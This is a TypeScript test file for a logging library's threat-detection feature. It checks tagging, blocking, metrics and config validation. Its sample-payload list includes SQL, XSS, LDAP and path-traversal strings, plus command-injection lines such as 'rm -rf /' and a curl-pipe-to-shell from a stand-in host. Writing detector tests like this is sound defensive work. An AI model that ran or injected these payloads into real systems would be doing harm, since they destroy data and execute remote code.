/**
 * Threat detection through the public logger API (docs/security.md "Threat detection"):
 * `enableSecurity: true` with `threatPolicy` `tag` (default), `block` and `off`, the counters in
 * `getPerformanceMetrics()`, and the configuration errors for the security options, each naming
 * its exact path.
 */
import { describe, expect, it } from 'vitest';
import {
  type ConfigIssue,
  ConfigValidationError,
  HydraLogger,
  type HydraLoggerOptions,
  verifyAuditChain,
} from '../../src/index.js';
import { fileLines, removeDir, tempDir } from './fixtures/sinks.js';

type Line = Record<string, unknown>;

/** A logger writing JSON lines to memory; `records()` parses them without the timestamp. */
function memoryLogger(options: HydraLoggerOptions = {}) {
  const logger = new HydraLogger({
    ...options,
    config: { layers: { DEFAULT: { level: 'TRACE', destinations: [{ type: 'memory', format: 'json' }] } } },
  });
  const records = (): Line[] =>
    (logger.memory()?.lines() ?? []).map((l) => {
      const { timestamp: _t, ...rest } = JSON.parse(l) as Line;
      return rest;
    });
  return { logger, records };
}

/** One payload of each threat type, and the type it must be reported as. */
const ATTACKS: [string, string][] = [
  ["admin' OR 1=1 --", 'sql_injection'],
  ['1; DROP TABLE users', 'sql_injection'],
  ['{"$where": "sleep(5000)"}', 'nosql_injection'],
  ['user[$ne]=null', 'nosql_injection'],
  ['<script>alert(document.cookie)</script>', 'xss'],
  ['<img src=x onerror=alert(1)>', 'xss'],
  ['../../../../etc/passwd', 'path_traversal'],
  ['%2e%2e%2f%2e%2e%2fsecret', 'path_traversal'],
  ['file.txt; rm -rf /', 'command_injection'],
  ['$(curl http://evil.example | sh)', 'command_injection'],
  ['*)(uid=*))(|(uid=*', 'ldap_injection'],
];

/** Ordinary text that mentions the words attacks use, and must not be flagged. */
const BENIGN = [
  'User selected 3 items and updated the cart',
  "Don't drop the table from the UI, or the report breaks",
  'GET /api/v1/users?page=2&sort=name returned 200',
  'Mail alice about the script rehearsal at 10:30',
  'Path is /var/app/releases/2026-11-26',
  'Order #1234 shipped; customer notified',
  'select a plan, then update your profile',
  'The (uid) field is required',
];

describe('threatPolicy: tag (the default with enableSecurity)', () => {
  it('adds a threats field with the type and worst severity to a malicious record and counts it', () => {
    const { logger, records } = memoryLogger({ enableSecurity: true });
    logger.info('login attempt', { user: "admin' OR 1=1 --" });
    const [r] = records();
    expect(r?.threats).toEqual([{ type: 'sql_injection', severity: 'critical' }]);
    expect(r?.user).toBe("admin' OR 1=1 --"); // detection reports; the payload is written escaped like any text
    const m = logger.getPerformanceMetrics();
    expect(m.securityEvents).toBe(1);
    expect(m.threatsBlocked).toBe(0);
    expect(m.dropped).toEqual({});
  });

  it('reports every threat type, from the message, nested fields, bindings and context', () => {
    const { logger, records } = memoryLogger({ enableSecurity: true, threatPolicy: 'tag' });
    ATTACKS.forEach(([payload], i) => {
      if (i % 4 === 0) logger.info(`search for ${payload}`);
      else if (i % 4 === 1) logger.info(`record ${i}`, { request: { query: { q: payload } } });
      else if (i % 4 === 2) logger.child({ input: payload }).info(`record ${i}`);
      else logger.runWithContext({ input: payload }, () => logger.info(`record ${i}`));
    });
    const out = records();
    expect(out).toHaveLength(ATTACKS.length);
    ATTACKS.forEach(([payload, type], i) => {
      const threats = out[i]?.threats as { type: string }[] | undefined;
      expect(
        threats?.map((t) => t.type),
        payload,
      ).toContain(type);
    });
    expect(logger.getPerformanceMetrics().securityEvents).toBe(ATTACKS.length);
  });

  it('leaves benign records exactly as a logger without threat detection writes them', () => {
    const on = memoryLogger({ enableSecurity: true });
    const off = memoryLogger();
    for (const { logger } of [on, off]) for (const text of BENIGN) logger.info(text, { note: text, n: 1 });
    expect(on.records()).toEqual(off.records());
    expect(on.records().some((r) => 'threats' in r)).toBe(false);
    expect(on.logger.getPerformanceMetrics().securityEvents).toBe(0);
  });

  it('checks before redaction, so an attack in a secret-shaped value is flagged, and the value still redacted', () => {
    const { logger, records } = memoryLogger({ enableSecurity: true });
    logger.info('login password=../../../../etc/passwd done');
    const [r] = records();
    expect(r?.threats).toEqual([{ type: 'path_traversal', severity: 'critical' }]);
    expect(r?.message).toBe('login password=[REDACTED] done');
  });

  it('a caller field named threats cannot forge or hide the verdict', () => {
    const { logger, records } = memoryLogger({ enableSecurity: true });
    logger.info('x', { q: '<script>alert(1)</script>', threats: [] });
    const [r] = records();
    expect(r?.threats).toEqual([{ type: 'xss', severity: 'high' }]);
    expect(r?._threats).toEqual([]);
  });
});

describe('threatPolicy: block', () => {
  it('drops malicious records, counts them, and writes benign ones untouched', () => {
    const { logger, records } = memoryLogger({ enableSecurity: true, threatPolicy: 'block' });
    for (const text of BENIGN) logger.info(text);
    for (const [payload] of ATTACKS) logger.warn('input', { payload });
    expect(records().map((r) => r.message)).toEqual(BENIGN);
    const m = logger.getPerformanceMetrics();
    expect(m.dropped['processor:threats']).toBe(ATTACKS.length);
    expect(m.threatsBlocked).toBe(ATTACKS.length);
    expect(m.securityEvents).toBe(ATTACKS.length);
    expect(m.totalLogs).toBe(BENIGN.length + ATTACKS.length);
  });

  it('never drops security(), audit() or compliance() records: they are tagged, and the audit chain holds', async () => {
    const dir = tempDir('hydra-threats-');
    try {
      const file = `${dir}/audit.log`;
      const logger = new HydraLogger({
        enableSecurity: true,
        threatPolicy: 'block',
        config: {
          layers: {
            DEFAULT: { destinations: [{ type: 'memory', format: 'json' }] },
            AUDIT: { destinations: [{ type: 'file', path: file, format: 'json', mode: 'sync' }] },
          },
        },
      });
      logger.audit('login failed', { user: "admin' OR 1=1 --" });
      logger.audit('login ok', { user: 'bob' });
      logger.security('probe', { path: '../../../../etc/passwd' });
      logger.compliance('export requested', { filter: '*)(uid=*))(|(uid=*' });
      logger.info('ordinary', { q: "' OR 1=1 --" });
      await logger.close();
      const audit = fileLines(file).map((l) => JSON.parse(l) as Line);
      expect(audit.map((r) => r.message)).toEqual(['login failed', 'login ok']);
      expect(audit[0]?.threats).toEqual([{ type: 'sql_injection', severity: 'critical' }]);
      expect(await verifyAuditChain(file)).toMatchObject({ ok: true, records: 2 });
      const other = (logger.memory()?.lines() ?? []).map((l) => JSON.parse(l) as Line);
      expect(other.map((r) => r.message)).toEqual(['probe', 'export requested']);
      const m = logger.getPerformanceMetrics();
      expect(m.securityEvents).toBe(4);
      expect(m.threatsBlocked).toBe(1);
      expect(m.dropped).toEqual({ 'processor:threats': 1 });
    } finally {
      removeDir(dir);
    }
  });
});

describe('threatPolicy: off, and enableSecurity off', () => {
  for (const [name, options] of [
    ["threatPolicy: 'off'", { enableSecurity: true, threatPolicy: 'off' }],
    ['enableSecurity not set', {}],
    ['enableSecurity: false with a policy', { enableSecurity: false, threatPolicy: 'block' }],
  ] as [string, HydraLoggerOptions][])
    it(`${name}: nothing is checked, tagged, blocked or counted`, () => {
      const { logger, records } = memoryLogger(options);
      for (const [payload] of ATTACKS) logger.info('input', { payload });
      expect(records()).toHaveLength(ATTACKS.length);
      expect(records().some((r) => 'threats' in r)).toBe(false);
      const m = logger.getPerformanceMetrics();
      expect(m.securityEvents).toBe(0);
      expect(m.threatsBlocked).toBe(0);
      expect(m.dropped).toEqual({});
    });
});

describe('invalid security options are configuration errors naming the exact path', () => {
  function issues(options: HydraLoggerOptions): ConfigIssue[] {
    try {
      new HydraLogger(options);
    } catch (err) {
      expect(err).toBeInstanceOf(ConfigValidationError);
      expect((err as ConfigValidationError).code).toBe('HYDRA_E_CONFIG_INVALID');
      return [...(err as ConfigValidationError).issues];
    }
    throw new Error('expected a ConfigValidationError');
  }
  const paths = (options: HydraLoggerOptions): string[] => issues(options).map((i) => i.path);

  it('threatPolicy outside tag/block/off, as an option and in a config object', () => {
    const [issue] = issues({ threatPolicy: 'deny' as never });
    expect(issue).toEqual({
      path: 'threatPolicy',
      message: expect.stringMatching(/"tag", "block", "off".*"deny"/),
    });
    expect(paths({ config: { threatPolicy: 'BLOCK' as never } })).toEqual(['threatPolicy']);
    expect(paths({ enableSecurity: 'yes' as never })).toEqual(['enableSecurity']);
  });

  it('redaction: an invalid regex string, a bad match mode, a wrong shape, an unknown key', () => {
    const found = issues({
      redaction: {
        patterns: [
          { name: 'ok', pattern: 'ORD-[0-9]{6}' },
          { name: 'broken', pattern: 'a(b' },
          { name: 'num', pattern: 42 as never },
          { name: 'ph', pattern: 'x', placeholder: 7 as never },
        ],
        sensitiveKeys: ['tenantSecret', { key: 'iban', match: 'prefix' as never }, 12 as never],
        removePatterns: 'phone' as never,
        patern: [] as never,
      } as never,
    });
    expect(found.map((i) => i.path).sort()).toEqual(
      [
        'redaction.patern',
        'redaction.patterns[1].pattern',
        'redaction.patterns[2].pattern',
        'redaction.patterns[3].placeholder',
        'redaction.sensitiveKeys[1].match',
        'redaction.sensitiveKeys[2]',
        'redaction.removePatterns',
      ].sort(),
    );
    expect(found.find((i) => i.path === 'redaction.patterns[1].pattern')?.message).toMatch(
      /regular expression/,
    );
    expect(found.find((i) => i.path === 'redaction.patern')?.message).toMatch(/patterns/); // did you mean
    expect(paths({ redaction: 'yes' as never })).toEqual(['redaction']);
    expect(paths({ redaction: { patterns: [{ pattern: 'x' }] as never } })).toEqual([
      'redaction.patterns[0].name',
    ]);
  });

  it('pseudonymize: an unknown algorithm, no fields, a wrong salt', () => {
    const [algo] = issues({ pseudonymize: { fields: ['userId'], algorithm: 'sha-257' } });
    expect(algo).toEqual({
      path: 'pseudonymize.algorithm',
      message: expect.stringMatching(/sha256.*sha-257/),
    });
    expect(paths({ pseudonymize: { fields: [] } })).toEqual(['pseudonymize.fields']);
    expect(paths({ pseudonymize: { fields: ['a', 3 as never], salt: 5 as never } }).sort()).toEqual([
      'pseudonymize.fields[1]',
      'pseudonymize.salt',
    ]);
    expect(paths({ detectEnvironment: 1 as never })).toEqual(['detectEnvironment']);
  });
});
